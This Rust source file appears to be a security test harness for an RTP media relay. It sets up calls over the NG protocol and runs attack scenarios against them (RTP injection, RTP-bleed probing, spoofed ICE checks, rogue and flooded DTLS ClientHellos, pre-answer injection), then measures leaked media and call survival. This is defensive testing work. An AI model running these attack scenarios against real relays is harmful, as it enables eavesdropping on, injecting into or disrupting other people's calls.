//! One attack scenario against one call: set the call up through NG, let the two victims
//! talk, attack, let them talk on, and measure.
//!
//! The run is driven by events and a 20 ms send clock: the attack starts when both victims
//! have heard each other ([`Timing::up_packets`] packets each way), never after a guessed
//! delay. Phases: ringing (pre-answer scenarios only: the attack runs between offer and
//! answer) -> DTLS handshake (DTLS scenarios) -> media up -> settle (handover only: past the
//! relay's learning window) -> attack -> after (attacker silent, victims talking: is the call
//! still whole?) -> drain (until the last packets arrive, or a bound).

use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

use mio::net::UdpSocket as MioUdp;
use mio::{Events, Interest, Poll, Token};

use crate::bench::ng::{self as ngc, NgClient};
use crate::config::EndpointLearning;
use crate::dtls::dtls::{DtlsCert, Fingerprint};
use crate::ng::bencode::OwnedValue;

use super::daemon::mode_name;
use super::packet::{self, Rtp, ATTACKER_TAG};
use super::victim::{Dtls, IceLite, Received, Victim};
use super::AttackError;

/// The ClientHello fixtures the DTLS scenarios send (from the shared attack fixtures).
pub const HELLO_NULL_CIPHER: &[u8] =
    include_bytes!("../../tests/fixtures/attack/dtls-clienthello-null-cipher.bin");
pub const HELLO_VALID: &[u8] =
    include_bytes!("../../tests/fixtures/attack/dtls-clienthello-valid.bin");

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Scenario {
    /// ClientHellos offering only the NULL cipher, to the DTLS leg's port.
    DtlsHelloNull,
    /// Valid ClientHellos from a stranger, to the DTLS leg's port.
    DtlsHelloValid,
    /// A flood of ClientHellos from many source ports.
    DtlsFlood,
    /// A steady RTP stream of the attacker's own to both relay ports.
    RtpInject,
    /// ES2025-01 style probing: RTP with random SSRC and sequence plus RTCP, to both RTP
    /// and RTCP ports, through the learning window and after it.
    RtpBleed,
    /// Forged ICE checks (USE-CANDIDATE, right ufrags, wrong integrity) from a stranger.
    StunSpoof,
    /// rtp-bleed's probing, started before the victims' first packet: the race for the
    /// very first learning decision, which no relay can judge on plain RTP.
    RtpRace,
    /// The legitimate case: victim A moves to a new address (Wi-Fi to 4G), same SSRC,
    /// sequence numbers continuing.
    Handover,
    /// While the call rings (after the offer, before the answer) the attacker sends RTP to
    /// the relay port the offer names for the callee, the only one it can know yet. Nobody
    /// legitimate sends there before the answer; the caller hears what gets through.
    EarlyRtp,
    /// The same with ClientHellos (NULL-cipher and valid, from [`FLOOD_SOCKETS`] source
    /// ports, more than a relay's handshake cap) to the callee's DTLS-SRTP port: they must
    /// neither reach the caller nor keep the callee's handshake from completing after the
    /// answer.
    EarlyDtls,
}

impl Scenario {
    pub const ALL: [Scenario; 10] = [
        Scenario::DtlsHelloNull,
        Scenario::DtlsHelloValid,
        Scenario::DtlsFlood,
        Scenario::EarlyDtls,
        Scenario::RtpInject,
        Scenario::RtpBleed,
        Scenario::StunSpoof,
        Scenario::Handover,
        Scenario::RtpRace,
        Scenario::EarlyRtp,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Scenario::DtlsHelloNull => "dtls-hello-null",
            Scenario::DtlsHelloValid => "dtls-hello-valid",
            Scenario::DtlsFlood => "dtls-flood",
            Scenario::RtpInject => "rtp-inject",
            Scenario::RtpBleed => "rtp-bleed",
            Scenario::StunSpoof => "stun-spoof",
            Scenario::Handover => "handover",
            Scenario::RtpRace => "rtp-race",
            Scenario::EarlyRtp => "early-rtp",
            Scenario::EarlyDtls => "early-dtls",
        }
    }

    pub fn parse(s: &str) -> Option<Scenario> {
        Scenario::ALL.into_iter().find(|x| x.name() == s)
    }

    /// Victim B talks DTLS-SRTP (no ICE); A stays plain RTP/AVP.
    pub fn is_dtls(self) -> bool {
        matches!(
            self,
            Scenario::DtlsHelloNull
                | Scenario::DtlsHelloValid
                | Scenario::DtlsFlood
                | Scenario::EarlyDtls
        )
    }

    /// The attack happens before the answer, and only then.
    pub fn is_early(self) -> bool {
        matches!(self, Scenario::EarlyRtp | Scenario::EarlyDtls)
    }

    /// The attacker uses [`FLOOD_SOCKETS`] source ports.
    fn many_sources(self) -> bool {
        matches!(self, Scenario::DtlsFlood | Scenario::EarlyDtls)
    }
}

/// The pacing and the phase lengths.
#[derive(Debug, Clone, Copy)]
pub struct Timing {
    /// The send clock (one packet per victim per tick).
    pub tick: Duration,
    /// Packets each victim must receive before the attack starts.
    pub up_packets: usize,
    /// Bound on the DTLS handshake plus media start.
    pub up_timeout: Duration,
    /// Attack phase, in ticks. 200 (4 s) spans rtpengine's 3 s learning window.
    pub attack_ticks: u32,
    /// Handover: ticks of call before the move (past a 3 s learning window), and after it.
    pub settle_ticks: u32,
    pub handover_ticks: u32,
    /// Ticks with the attacker silent, to see whether the call is still whole.
    pub after_ticks: u32,
    /// Pre-answer scenarios: ticks between offer and answer (the attack runs throughout).
    pub ring_ticks: u32,
    /// Bound on waiting for the last packets.
    pub drain: Duration,
}

impl Default for Timing {
    fn default() -> Self {
        Timing {
            tick: Duration::from_millis(20),
            up_packets: 5,
            up_timeout: Duration::from_secs(5),
            attack_ticks: 200,
            settle_ticks: 200,
            handover_ticks: 100,
            after_ticks: 40,
            ring_ticks: 50,
            drain: Duration::from_millis(400),
        }
    }
}

/// One scenario run's parameters.
#[derive(Debug, Clone)]
pub struct RunConfig {
    pub ng: SocketAddr,
    pub mode: EndpointLearning,
    /// Ask for `mode` per call (NG key `endpoint-learning`): the daemon was not started by us.
    pub per_call_mode: bool,
    pub strict_source: bool,
    pub call_id: String,
    pub victim_ip: IpAddr,
    pub attacker_ip: IpAddr,
    /// Victim A's address after the handover.
    pub handover_ip: IpAddr,
    pub timing: Timing,
}

/// What a run measured.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Outcome {
    /// Media flowed both ways before the attack.
    pub call_up: bool,
    /// After the attack both victims still received each other's stream (>= 80 %).
    pub call_kept: bool,
    /// Attacker datagrams delivered to a victim.
    pub injected: u64,
    /// Victim packets delivered to the attacker.
    pub bled: u64,
    /// Datagrams the attacker sent.
    pub attacker_sent: u64,
    /// Handover: the index (1-based) among A's packets from its new address of the first one
    /// B received.
    pub switched_at: Option<u32>,
    /// Handover: packets A sent from its new address that B never received.
    pub lost: Option<u32>,
    /// Anything else worth knowing: one of the `NOTE_*` texts and a count.
    pub notes: Vec<(&'static str, u64)>,
    /// The run could not be carried out (call setup failed, ...).
    pub error: Option<String>,
}

pub const NOTE_OLD_ADDRESS: &str =
    "handover: the relay still sent B's packets to A's old address after the move (count)";
pub const NOTE_NEVER_UP: &str = "media never flowed both ways: the race was lost for good";
pub const NOTE_DTLS_LOST: &str =
    "the DTLS victim's handshake never completed: the attacker's ClientHello, sent first, took it";
pub const NOTE_ATTACKER_OTHER: &str =
    "the attacker received datagrams that are not victim media: relay replies, or its own packets reflected (count)";
pub const NOTE_ICE: &str = "victim A answered the relay's ICE checks (count)";
pub const NOTE_UNRECOGNISED: &str =
    "victims received datagrams that are none of ours, e.g. SRTP that decrypts to garbage (count)";

const A: usize = 0;
const B: usize = 1;
/// Victim A after the handover.
const A2: usize = 2;
/// The attacker's first socket; more follow for the flood.
const ATK: usize = 3;
/// Source ports of the ClientHello flood and of the pre-answer hellos.
pub const FLOOD_SOCKETS: usize = 8;

/// The sockets of one run, on one mio poll.
struct Io {
    poll: Poll,
    socks: Vec<MioUdp>,
    buf: Vec<u8>,
}

impl Io {
    fn new() -> Result<Io, AttackError> {
        Ok(Io {
            poll: Poll::new()?,
            socks: Vec::new(),
            buf: vec![0u8; 65536],
        })
    }

    fn bind(&mut self, ip: IpAddr) -> Result<SocketAddr, AttackError> {
        let s = UdpSocket::bind((ip, 0))?;
        s.set_nonblocking(true)?;
        let addr = s.local_addr()?;
        let mut s = MioUdp::from_std(s);
        self.poll
            .registry()
            .register(&mut s, Token(self.socks.len()), Interest::READABLE)?;
        self.socks.push(s);
        Ok(addr)
    }

    fn send(&self, idx: usize, data: &[u8], to: SocketAddr) -> bool {
        self.socks
            .get(idx)
            .is_some_and(|s| s.send_to(data, to).is_ok())
    }

    /// Reads everything waiting on socket `idx`; returns how many datagrams were the
    /// attacker's (its RTP, or a ClientHello, which no victim sends here).
    fn drain_attacker_datagrams(&mut self, idx: usize) -> u64 {
        let mut n = 0;
        let Some(sock) = self.socks.get(idx) else {
            return 0;
        };
        loop {
            match sock.recv_from(&mut self.buf) {
                Ok((len, _)) => {
                    let d = &self.buf[..len];
                    let hello = len > 13 && d[0] == 22 && d[13] == 1;
                    if hello || packet::origin(d) == packet::Origin::Attacker {
                        n += 1;
                    }
                }
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => return n,
                Err(_) => continue,
            }
        }
    }
}

/// The relay's side of the call, from the SDPs it returned.
struct Relay {
    /// Where A sends (the answer's media address) and B sends (the offer's).
    a_dest: SocketAddr,
    b_dest: SocketAddr,
    a_rtcp: SocketAddr,
    b_rtcp: SocketAddr,
    /// The relay's ICE ufrag towards A, if it does ICE.
    a_ufrag: Option<String>,
}

fn attr<'s>(sdp: &'s str, name: &str) -> Option<&'s str> {
    sdp.lines().find_map(|l| {
        l.trim_end()
            .strip_prefix("a=")?
            .strip_prefix(name)?
            .strip_prefix(':')
    })
}

fn rtcp_of(sdp: &str, rtp: SocketAddr) -> SocketAddr {
    if sdp.lines().any(|l| l.trim_end() == "a=rtcp-mux") {
        return rtp;
    }
    let port = attr(sdp, "rtcp")
        .and_then(|v| v.split_ascii_whitespace().next()?.parse().ok())
        .unwrap_or(rtp.port().wrapping_add(1));
    SocketAddr::new(rtp.ip(), port)
}

fn victim_sdp(
    addr: SocketAddr,
    session: u64,
    extra_session: &str,
    proto: &str,
    extra: &str,
) -> String {
    let ip = addr.ip();
    let fam = if ip.is_ipv4() { "IP4" } else { "IP6" };
    format!(
        "v=0\r\no=- {session} 1 IN {fam} {ip}\r\ns=victim\r\nc=IN {fam} {ip}\r\nt=0 0\r\n{extra_session}\
         m=audio {port} {proto} 0\r\na=rtpmap:0 PCMU/8000\r\na=ptime:20\r\n{extra}a=sendrecv\r\n",
        port = addr.port()
    )
}

/// A small xorshift generator: the attacker's SSRCs and sequence numbers.
struct Xs(u64);

impl Xs {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Phase {
    Up,
    Settle(u32),
    Attack(u32),
    After(u32),
    Drain,
}

/// Runs `scenario` once. Errors end up in [`Outcome::error`]; the call is deleted in any
/// case.
pub fn run(scenario: Scenario, cfg: &RunConfig) -> Outcome {
    let mut ng = match NgClient::connect(cfg.ng) {
        Ok(c) => c,
        Err(e) => {
            return Outcome {
                error: Some(e.to_string()),
                ..Outcome::default()
            }
        }
    };
    ng.retransmit_after = Duration::from_millis(500);
    let out = match Run::setup(scenario, cfg, &mut ng) {
        Ok(mut r) => r.run(),
        Err(e) => Outcome {
            error: Some(e.to_string()),
            ..Outcome::default()
        },
    };
    let del = ngc::delete(&cfg.call_id);
    let _ = ng.request(&del);
    out
}

struct Run<'c> {
    scenario: Scenario,
    cfg: &'c RunConfig,
    io: Io,
    relay: Relay,
    victims: [Victim; 2],
    /// What each socket received (A, B, A2 as victims; the attacker's are counted apart).
    rx: [Received; 3],
    /// A sends from A2 from this index on (handover).
    switch_index: Option<u32>,
    atk_sent: u64,
    atk_bled: u64,
    atk_replies: u64,
    rng: Xs,
    atk_ssrc: u32,
    atk_seq: u16,
    /// First index each victim sent in the after phase.
    after_from: [u32; 2],
    /// rtp-race: media never flowed both ways.
    never_up: bool,
    /// What the pre-answer attack did.
    ring: Ring,
}

/// The pre-answer phase's tally.
#[derive(Debug, Default)]
struct Ring {
    sent: u64,
    /// Attacker datagrams that reached the caller (A) while the call rang.
    injected: u64,
}

/// Rings the call: for [`Timing::ring_ticks`] the attacker sends to the callee's relay port
/// `b_dest` (RTP, or ClientHellos from every attacker socket in turn) while the caller (A)
/// listens. Nobody else sends: the caller does not know its relay port before the answer.
fn ring(scenario: Scenario, io: &mut Io, b_dest: SocketAddr, t: &Timing, rng: &mut Xs) -> Ring {
    let mut r = Ring::default();
    let mut events = Events::with_capacity(16);
    let (ssrc, mut seq) = (rng.next() as u32, rng.next() as u16);
    let atk_socks = io.socks.len().saturating_sub(ATK).max(1);
    let mut next_tick = Instant::now();
    let mut hello_n = 0u64;
    for n in 0..t.ring_ticks {
        match scenario {
            Scenario::EarlyDtls => {
                // Each source a NULL-cipher hello and a valid one per tick.
                for s in 0..atk_socks {
                    for f in [HELLO_NULL_CIPHER, HELLO_VALID] {
                        let h = packet::fresh_client_hello(f, rng.next() ^ hello_n);
                        hello_n += 1;
                        if io.send(ATK + s, &h, b_dest) {
                            r.sent += 1;
                        }
                    }
                }
            }
            _ => {
                let h = Rtp {
                    ssrc,
                    seq,
                    ts: u32::from(seq) * 160,
                };
                seq = seq.wrapping_add(1);
                let p = packet::rtp(h, ATTACKER_TAG, 0, n, packet::PAYLOAD);
                if io.send(ATK, &p, b_dest) {
                    r.sent += 1;
                }
            }
        }
        next_tick += t.tick;
        // Until the next tick, count what reaches the caller.
        loop {
            let left = next_tick.saturating_duration_since(Instant::now());
            if left.is_zero() || io.poll.poll(&mut events, Some(left)).is_err() {
                break;
            }
            if events.iter().any(|e| e.token().0 == A) {
                r.injected += io.drain_attacker_datagrams(A);
            }
        }
    }
    r.injected += io.drain_attacker_datagrams(A);
    r
}

impl<'c> Run<'c> {
    fn setup(
        scenario: Scenario,
        cfg: &'c RunConfig,
        ng: &mut NgClient,
    ) -> Result<Run<'c>, AttackError> {
        let mut io = Io::new()?;
        let a_addr = io.bind(cfg.victim_ip)?;
        let b_addr = io.bind(cfg.victim_ip)?;
        io.bind(cfg.handover_ip)?;
        io.bind(cfg.attacker_ip)?;
        if scenario.many_sources() {
            for _ in 1..FLOOD_SOCKETS {
                io.bind(cfg.attacker_ip)?;
            }
        }
        let seed = u64::from(a_addr.port()) << 32 | u64::from(b_addr.port()) | 1;
        let mut rng = Xs(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1);

        // A's offer: plain RTP/AVP; ICE-lite for the STUN scenario.
        let ice = (scenario == Scenario::StunSpoof).then(|| IceLite {
            ufrag: format!("v{:07x}", rng.next() as u32 & 0xfff_ffff),
            pwd: format!("{:024x}", rng.next() as u128 | (rng.next() as u128) << 64),
            answered: 0,
        });
        let (a_session, a_media) = match &ice {
            Some(i) => (
                "a=ice-lite\r\n".to_string(),
                format!(
                    "a=ice-ufrag:{}\r\na=ice-pwd:{}\r\na=candidate:1 1 UDP 2130706431 {} {} typ host\r\n",
                    i.ufrag,
                    i.pwd,
                    a_addr.ip(),
                    a_addr.port()
                ),
            ),
            None => (String::new(), String::new()),
        };
        let session = rng.next() >> 40;
        let a_sdp = victim_sdp(a_addr, session, &a_session, "RTP/AVP", &a_media);
        let flags = |v: OwnedValue| -> OwnedValue {
            let mut v = v;
            if cfg.strict_source {
                v = v.with(
                    "flags",
                    OwnedValue::from(vec![OwnedValue::from("strict-source")]),
                );
            }
            if cfg.per_call_mode {
                v = v.with("endpoint-learning", mode_name(cfg.mode));
            }
            v
        };
        let mut offer = flags(ngc::offer(&cfg.call_id, &a_sdp));
        if scenario.is_dtls() {
            offer = offer.with("transport-protocol", "UDP/TLS/RTP/SAVP");
        }
        let reply = ng.request(&offer)?;
        let offer_sdp = reply
            .get("sdp")
            .and_then(OwnedValue::as_str)
            .ok_or_else(|| AttackError::Setup("offer reply without SDP".into()))?
            .to_string();
        let b_dest = ngc::media_addr(&offer_sdp)?;
        let b_rtcp = rtcp_of(&offer_sdp, b_dest);
        let ring = if scenario.is_early() {
            ring(scenario, &mut io, b_dest, &cfg.timing, &mut rng)
        } else {
            Ring::default()
        };

        // B's answer: plain, or DTLS-SRTP as the active (client) side.
        let now = Instant::now();
        let (b_sdp, b_dtls) = if scenario.is_dtls() {
            let fp = attr(&offer_sdp, "fingerprint")
                .ok_or_else(|| AttackError::Setup("no a=fingerprint in the offer to B".into()))?;
            let fp = Fingerprint::parse(fp).map_err(|e| AttackError::Setup(e.to_string()))?;
            let cert = DtlsCert::generate(Default::default())
                .map_err(|e| AttackError::Dtls(e.to_string()))?;
            let extra = format!("a=fingerprint:{}\r\na=setup:active\r\n", cert.fingerprint());
            let dtls = Dtls::client(now, &cert, fp)?;
            (
                victim_sdp(b_addr, session + 1, "", "UDP/TLS/RTP/SAVP", &extra),
                Some(dtls),
            )
        } else {
            (victim_sdp(b_addr, session + 1, "", "RTP/AVP", ""), None)
        };
        let reply = ng.request(&flags(ngc::answer(&cfg.call_id, &b_sdp)))?;
        let answer_sdp = reply
            .get("sdp")
            .and_then(OwnedValue::as_str)
            .ok_or_else(|| AttackError::Setup("answer reply without SDP".into()))?
            .to_string();
        let a_dest = ngc::media_addr(&answer_sdp)?;
        let relay = Relay {
            a_dest,
            b_dest,
            a_rtcp: rtcp_of(&answer_sdp, a_dest),
            b_rtcp,
            a_ufrag: attr(&answer_sdp, "ice-ufrag").map(str::to_string),
        };
        let mut a = Victim::new(b'A', a_dest, rng.next() as u32);
        a.ice = ice;
        let mut b = Victim::new(b'B', b_dest, rng.next() as u32);
        b.dtls = b_dtls;
        let atk_ssrc = rng.next() as u32;
        let atk_seq = rng.next() as u16;
        Ok(Run {
            scenario,
            cfg,
            io,
            relay,
            victims: [a, b],
            rx: Default::default(),
            switch_index: None,
            atk_sent: 0,
            atk_bled: 0,
            atk_replies: 0,
            rng,
            atk_ssrc,
            atk_seq,
            after_from: [0; 2],
            never_up: false,
            ring,
        })
    }

    fn run(&mut self) -> Outcome {
        let t = self.cfg.timing;
        let start = Instant::now();
        let mut next_tick = start;
        let mut phase = Phase::Up;
        let mut drain_until = start;
        let mut events = Events::with_capacity(64);
        let mut out: Vec<(Vec<u8>, SocketAddr)> = Vec::new();
        let mut error = None;
        // The hello scenarios' attacker goes first: its hello reaches the relay before the DTLS
        // victim's, and it keeps on while the victim's handshake runs (every tick of the
        // up phase), as a steady sprayer does. rtp-race probes first too.
        let races = matches!(
            self.scenario,
            Scenario::DtlsHelloNull | Scenario::DtlsHelloValid | Scenario::RtpRace
        );
        if races {
            self.attack(0);
        }
        self.flush_dtls(start, &mut out);
        loop {
            let now = Instant::now();
            if now >= next_tick {
                next_tick += t.tick;
                phase = match phase {
                    Phase::Up => {
                        if self.up(t.up_packets) {
                            if self.scenario == Scenario::Handover {
                                Phase::Settle(0)
                            } else if self.scenario.is_early() {
                                // The attack is over: is the call whole?
                                self.after_from = [self.victims[A].sent, self.victims[B].sent];
                                Phase::After(0)
                            } else {
                                Phase::Attack(0)
                            }
                        } else if now.duration_since(start) > t.up_timeout {
                            if !races {
                                error = Some(self.why_not_up());
                                break;
                            }
                            // The race was lost for good (the attacker's probes were learned,
                            // or its hello took the handshake): measure what it got.
                            self.never_up = true;
                            self.after_from = [self.victims[A].sent, self.victims[B].sent];
                            Phase::After(0)
                        } else {
                            if races {
                                self.attack(0);
                            }
                            Phase::Up
                        }
                    }
                    Phase::Settle(n) if n >= t.settle_ticks => Phase::Attack(0),
                    Phase::Settle(n) => Phase::Settle(n + 1),
                    Phase::Attack(n) => {
                        let len = if self.scenario == Scenario::Handover {
                            t.handover_ticks
                        } else {
                            t.attack_ticks
                        };
                        if n >= len {
                            self.after_from = [self.victims[A].sent, self.victims[B].sent];
                            Phase::After(0)
                        } else {
                            self.attack(n);
                            Phase::Attack(n + 1)
                        }
                    }
                    Phase::After(n) if n >= t.after_ticks => {
                        drain_until = now + t.drain;
                        Phase::Drain
                    }
                    Phase::After(n) => Phase::After(n + 1),
                    Phase::Drain => Phase::Drain,
                };
                if phase != Phase::Drain {
                    self.victims_send();
                }
            }
            if phase == Phase::Drain && (now >= drain_until || self.drained()) {
                break;
            }
            let mut wake = next_tick;
            for v in &self.victims {
                if let Some(t) = v.dtls.as_ref().and_then(|d| d.endpoint.poll_timeout()) {
                    wake = wake.min(t);
                }
            }
            if phase == Phase::Drain {
                wake = drain_until;
            }
            let timeout = wake.saturating_duration_since(Instant::now());
            if self.io.poll.poll(&mut events, Some(timeout)).is_err() {
                continue;
            }
            let now = Instant::now();
            for ev in events.iter() {
                self.drain_socket(ev.token().0, now, &mut out);
            }
            self.flush_dtls(now, &mut out);
        }
        self.outcome(error)
    }

    fn flush_dtls(&mut self, now: Instant, out: &mut Vec<(Vec<u8>, SocketAddr)>) {
        self.victims[B].on_timer(now, out);
        for (d, to) in out.drain(..) {
            self.io.send(B, &d, to);
        }
    }

    fn drain_socket(&mut self, idx: usize, now: Instant, out: &mut Vec<(Vec<u8>, SocketAddr)>) {
        loop {
            let Some(sock) = self.io.socks.get(idx) else {
                return;
            };
            let (n, from) = match sock.recv_from(&mut self.io.buf) {
                Ok(x) => x,
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => return,
                Err(_) => continue,
            };
            let data = &mut self.io.buf[..n];
            if idx >= ATK {
                let ours = [self.victims[A].ssrc, self.victims[B].ssrc];
                let bled = packet::ssrc_of(data).is_some_and(|s| ours.contains(&s))
                    || matches!(packet::origin(data), packet::Origin::Victim { .. });
                if bled {
                    self.atk_bled += 1;
                } else {
                    self.atk_replies += 1;
                }
                continue;
            }
            let v = if idx == B { B } else { A };
            self.victims[v].on_datagram(now, data, from, &mut self.rx[idx], out);
            for (d, to) in out.drain(..) {
                self.io.send(idx, &d, to);
            }
        }
    }

    /// Both victims have heard each other.
    fn up(&self, packets: usize) -> bool {
        self.rx[A].from_victim.len() >= packets && self.rx[B].from_victim.len() >= packets
    }

    fn why_not_up(&self) -> String {
        if let Some(d) = &self.victims[B].dtls {
            if !d.connected() {
                return format!(
                    "DTLS handshake with the relay did not complete{}",
                    d.failed
                        .as_ref()
                        .map(|f| format!(": {f}"))
                        .unwrap_or_default()
                );
            }
        }
        format!(
            "no media before the attack (A got {}, B got {})",
            self.rx[A].from_victim.len(),
            self.rx[B].from_victim.len()
        )
    }

    /// The last packets each victim sent have arrived (nothing left in flight).
    fn drained(&self) -> bool {
        let a_rx = if self.switch_index.is_some() { A2 } else { A };
        let last_b = self.victims[B].sent.saturating_sub(1);
        let last_a = self.victims[A].sent.saturating_sub(1);
        self.rx[a_rx].from_victim.contains(&last_b) && self.rx[B].from_victim.contains(&last_a)
    }

    fn victims_send(&mut self) {
        let a_sock = if self.switch_index.is_some() { A2 } else { A };
        for (i, sock) in [(A, a_sock), (B, B)] {
            if let Some(p) = self.victims[i].next_packet() {
                let dest = self.victims[i].dest;
                self.io.send(sock, &p, dest);
            }
        }
    }

    fn atk_send(&mut self, sock: usize, data: &[u8], to: SocketAddr) {
        if self.io.send(sock, data, to) {
            self.atk_sent += 1;
        }
    }

    /// The attacker's (or, for the handover, victim A's) move on attack tick `n`.
    fn attack(&mut self, n: u32) {
        let r = (self.relay.a_dest, self.relay.b_dest);
        match self.scenario {
            Scenario::Handover => {
                if n == 0 {
                    self.switch_index = Some(self.victims[A].sent);
                }
            }
            Scenario::RtpInject => {
                let h = Rtp {
                    ssrc: self.atk_ssrc,
                    seq: self.atk_seq,
                    ts: u32::from(self.atk_seq) * 160,
                };
                self.atk_seq = self.atk_seq.wrapping_add(1);
                let p = packet::rtp(h, ATTACKER_TAG, 0, n, packet::PAYLOAD);
                self.atk_send(ATK, &p, r.0);
                self.atk_send(ATK, &p, r.1);
            }
            Scenario::RtpBleed | Scenario::RtpRace => {
                for dest in [r.0, r.0, r.1, r.1] {
                    let x = self.rng.next();
                    let h = Rtp {
                        ssrc: x as u32,
                        seq: (x >> 32) as u16,
                        ts: (x >> 16) as u32,
                    };
                    let p = packet::rtp(h, ATTACKER_TAG, 0, n, 0);
                    self.atk_send(ATK, &p, dest);
                }
                let rr = packet::rtcp_rr(self.rng.next() as u32);
                self.atk_send(ATK, &rr, self.relay.a_rtcp);
                self.atk_send(ATK, &rr, self.relay.b_rtcp);
            }
            Scenario::StunSpoof => {
                let a_ufrag = self.victims[A].ice.as_ref().map(|i| i.ufrag.clone());
                let relay_ufrag = self.relay.a_ufrag.clone().unwrap_or_else(|| "x".into());
                let user = format!("{relay_ufrag}:{}", a_ufrag.unwrap_or_default());
                let m = packet::stun_spoof(&user, self.rng.next());
                self.atk_send(ATK, &m, r.0);
                let m = packet::stun_spoof("x:y", self.rng.next());
                self.atk_send(ATK, &m, r.1);
            }
            Scenario::DtlsHelloNull | Scenario::DtlsHelloValid => {
                // A hello every tick for the first second, to the DTLS leg's port.
                if n < 50 {
                    let f = if self.scenario == Scenario::DtlsHelloNull {
                        HELLO_NULL_CIPHER
                    } else {
                        HELLO_VALID
                    };
                    let h = packet::fresh_client_hello(f, self.rng.next());
                    self.atk_send(ATK, &h, r.1);
                }
            }
            // Their attack was before the answer (see `ring`).
            Scenario::EarlyRtp | Scenario::EarlyDtls => {}
            Scenario::DtlsFlood => {
                // 2000 hellos/s from 8 source ports for the first two seconds.
                if n < 100 {
                    for i in 0..40 {
                        let h = packet::fresh_client_hello(HELLO_VALID, self.rng.next());
                        self.atk_send(ATK + i % FLOOD_SOCKETS, &h, r.1);
                    }
                }
            }
        }
    }

    fn outcome(&self, error: Option<String>) -> Outcome {
        let mut o = Outcome {
            call_up: error.is_none() && !self.never_up,
            injected: self.rx.iter().map(|r| r.from_attacker).sum::<u64>() + self.ring.injected,
            bled: self.atk_bled,
            attacker_sent: self.atk_sent + self.ring.sent,
            error,
            ..Outcome::default()
        };
        let a_rx = if self.switch_index.is_some() { A2 } else { A };
        // Kept: each side got >= 80 % of what the other sent after the attack.
        let kept = |rx: &Received, from: u32, to: u32| {
            let want = to.saturating_sub(from);
            let got = rx
                .from_victim
                .iter()
                .filter(|&&i| i >= from && i < to)
                .count() as u32;
            want > 0 && got * 5 >= want * 4
        };
        o.call_kept = o.call_up
            && kept(&self.rx[a_rx], self.after_from[B], self.victims[B].sent)
            && kept(&self.rx[B], self.after_from[A], self.victims[A].sent);
        if let Some(sw) = self.switch_index {
            let sent = self.victims[A].sent;
            let mut got = vec![false; sent.saturating_sub(sw) as usize];
            for &i in &self.rx[B].from_victim {
                if let Some(g) = i.checked_sub(sw).and_then(|k| got.get_mut(k as usize)) {
                    *g = true;
                }
            }
            o.switched_at = got.iter().position(|&g| g).map(|k| k as u32 + 1);
            o.lost = Some(got.iter().filter(|&&g| !g).count() as u32);
            let old = self.rx[A]
                .from_victim
                .iter()
                .filter(|&&i| i >= self.after_from[B])
                .count();
            if old > 0 {
                o.notes.push((NOTE_OLD_ADDRESS, old as u64));
            }
        }
        if self.never_up {
            let dtls_lost = self.victims[B]
                .dtls
                .as_ref()
                .is_some_and(|d| !d.connected());
            o.notes.push((
                if dtls_lost {
                    NOTE_DTLS_LOST
                } else {
                    NOTE_NEVER_UP
                },
                1,
            ));
        }
        if self.atk_replies > 0 {
            o.notes.push((NOTE_ATTACKER_OTHER, self.atk_replies));
        }
        if let Some(i) = self.victims[A].ice.as_ref().filter(|i| i.answered > 0) {
            o.notes.push((NOTE_ICE, u64::from(i.answered)));
        }
        let other: u64 = self.rx.iter().map(|r| r.other).sum();
        if other > 0 {
            o.notes.push((NOTE_UNRECOGNISED, other));
        }
        o
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scenario_names_round_trip() {
        for s in Scenario::ALL {
            assert_eq!(Scenario::parse(s.name()), Some(s));
        }
        assert_eq!(Scenario::parse("nope"), None);
    }

    #[test]
    fn sdp_helpers() {
        let sdp = "v=0\r\nm=audio 4000 RTP/AVP 0\r\na=rtcp:4005\r\na=fingerprint:sha-256 AB:CD\r\n";
        let rtp: SocketAddr = "10.0.0.1:4000".parse().unwrap();
        assert_eq!(
            rtcp_of(sdp, rtp),
            "10.0.0.1:4005".parse::<SocketAddr>().unwrap()
        );
        assert_eq!(attr(sdp, "fingerprint"), Some("sha-256 AB:CD"));
        assert_eq!(rtcp_of("a=rtcp-mux\r\n", rtp), rtp);
        assert_eq!(
            rtcp_of("", rtp),
            "10.0.0.1:4001".parse::<SocketAddr>().unwrap()
        );
    }
}
